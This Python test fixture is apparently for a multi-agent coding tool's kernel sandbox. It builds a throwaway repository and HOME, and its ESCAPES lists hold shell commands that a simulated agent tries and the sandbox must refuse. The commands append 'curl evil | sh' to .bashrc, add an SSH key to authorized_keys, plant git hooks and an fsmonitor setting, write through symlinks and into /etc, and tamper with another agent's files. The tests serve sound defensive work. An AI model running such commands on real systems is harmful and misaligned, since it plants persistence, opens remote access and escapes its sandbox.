"""Repositories where an agent tries every escape the kernel sandbox must refuse.

``make_repo`` builds a git repository (one commit) with a two-agent plan like the real-CLI
sandboxes (``w1-a1`` owns ``src/api/server.py``, ``w1-a2`` owns ``src/web/page.py``), a
throwaway HOME beside it (``~/.bashrc``, ``~/.ssh/authorized_keys`` written there so a change
shows) and a ``wavedeck.toml`` whose ``[agent] env`` points the agents at that HOME.

``ESCAPES`` is the generic agent's list: each line runs one write the sandbox must refuse and
prints ``REFUSED <name>`` or ``ESCAPED <name>``; ``escape_script`` turns it into the shell agent
(its own edit first, the escapes, then the progress line). ``BEFORE`` holds what each file must
still hold afterwards.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

PLAN = "plans/plan.md"
OWN = "src/api/server.py"
OTHER = "src/web/page.py"
ORIGINAL = {OWN: "def handle(err):\n    return repr(err)\n", OTHER: "def page(n):\n    return n\n"}
ETC = "/etc/wavedeck-sandbox-escape"

PLAN_TEXT = """# Sandbox test plan

## Wave 1 — HIGH (2 issues, 2 agents)

### Agent 1: API
**Package**: `src/api/`
**Files**: `server.py`
| Order | Issue | Severity | Summary |
|---|---|---|---|
| 1 | api-1 | HIGH | Errors leak the traceback |

### Agent 2: Web
**Package**: `src/web/`
**Files**: `page.py`
| Order | Issue | Severity | Summary |
|---|---|---|---|
| 1 | web-1 | HIGH | The page echoes its input |
"""

# name -> shell command (run from the repository root, HOME the throwaway one). Each must fail.
ESCAPES = {
    "other-agent-file": f"echo hacked >> {OTHER}",
    "other-package-new-file": "echo hacked > src/web/planted.py",
    "git-hook": "echo 'exit 0' > .git/hooks/pre-commit",
    "git-config": "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
    "rename-other": f"mv {OTHER} src/web/renamed.py",
    "symlink-write": "ln -s ../web/page.py src/api/link.py && echo hacked >> src/api/link.py",
    "bashrc": 'echo "curl evil | sh" >> "$HOME/.bashrc"',
    "authorized-keys": 'echo "ssh-ed25519 AAAA evil" >> "$HOME/.ssh/authorized_keys"',
    "etc": f"echo hacked > {ETC}",
    "repo-root-new-file": "echo hacked > planted.txt",
    "truncate-other": f"truncate -s 0 {OTHER}",
}


# Worktree mode: the agent works in .wavedeck/worktrees/<id>; the main tree is three levels up.
MAIN_TREE_ESCAPES = {
    "main-tree-other-file": f"echo hacked >> ../../../{OTHER}",
    "main-tree-git-config": "echo '[core]' >> ../../../.git/config",
    "main-tree-own-file": f"echo hacked >> ../../../{OWN}",
}


def escape_script(folder: Path, escapes: dict[str, str] | None = None) -> Path:
    """The generic agent: edit its own file, try every escape, report, clean its symlink."""
    lines = [
        "#!/bin/sh",
        f"echo '    return \"internal error\"' >> {OWN}",
        *(
            f"if ( {cmd} ) 2>&1; then echo 'ESCAPED {name}'; else echo 'REFUSED {name}'; fi"
            for name, cmd in (escapes or ESCAPES).items()
        ),
        "rm -f src/api/link.py",
        'echo "tmp: $TMPDIR" && echo scratch > "$TMPDIR/scratch" && echo "TMPDIR writable"',
        "echo 'wavedeck: done api-1 fixed'",
    ]
    script = folder / "escape.sh"
    script.write_text("\n".join(lines) + "\n", "utf-8")
    script.chmod(0o755)
    return script


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "core.hooksPath=/dev/null", *args],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


def home_of(repo: Path) -> Path:
    return repo.parent / (repo.name + "-home")


def make_repo(
    folder: Path,
    agent: dict[str, object],
    env: dict[str, str] | None = None,
    workspace: str = "shared",
) -> Path:
    """A repository at ``folder``; ``agent``: the ``[agent]`` keys (TOML values as JSON)."""
    folder.mkdir(parents=True)
    home = home_of(folder)
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's bashrc\n", "utf-8")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA user\n", "utf-8")
    for rel, text in ORIGINAL.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    (folder / PLAN).parent.mkdir(parents=True)
    (folder / PLAN).write_text(PLAN_TEXT, "utf-8")
    (folder / ".gitignore").write_text(".wavedeck/\n__pycache__/\n", "utf-8")
    agent_env = {"HOME": str(home), **(env or {})}
    keys = "".join(f"{k} = {json.dumps(v)}\n" for k, v in agent.items())
    env_toml = (
        "{ " + ", ".join(f"{json.dumps(k)} = {json.dumps(v)}" for k, v in agent_env.items()) + " }"
    )
    (folder / "wavedeck.toml").write_text(
        f"plan = {json.dumps(PLAN)}\nworkspace = {json.dumps(workspace)}\n\n[agent]\n{keys}stop_grace_s = 2\nenv = {env_toml}\n\n"
        "[tests]\n"
        f"commands = {json.dumps(['python3 -m py_compile ' + ' '.join(ORIGINAL)])}\n"
        "timeout_s = 60\n",
        "utf-8",
    )
    _git(folder, "init", "-q", "-b", "main")
    _git(folder, "add", "-A")
    _git(folder, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "start")
    return folder


def snapshot(repo: Path) -> dict[str, bytes | None]:
    """Every file an escape aims at, as it is now (None: absent)."""
    home = home_of(repo)
    paths = [
        repo / OTHER,
        repo / "src/web/planted.py",
        repo / "src/web/renamed.py",
        repo / ".git/hooks/pre-commit",
        repo / ".git/config",
        repo / "planted.txt",
        home / ".bashrc",
        home / ".ssh/authorized_keys",
        Path(ETC),
    ]
    out: dict[str, bytes | None] = {}
    for path in paths:
        try:
            out[str(path)] = path.read_bytes()
        except FileNotFoundError:
            out[str(path)] = None
    return out


def changed_files(repo: Path, rev: str = "HEAD") -> list[str]:
    """The paths a commit changed."""
    return _git(repo, "show", "--name-only", "--format=", rev).split()


def commit_message(repo: Path, rev: str = "HEAD") -> str:
    return _git(repo, "log", "-1", "--format=%B", rev)


def landlock_abi() -> int:
    from wavedeck.agents.local import landlock

    return landlock.abi()


def cleanup_etc() -> None:
    if os.path.lexists(ETC):
        os.unlink(ETC)
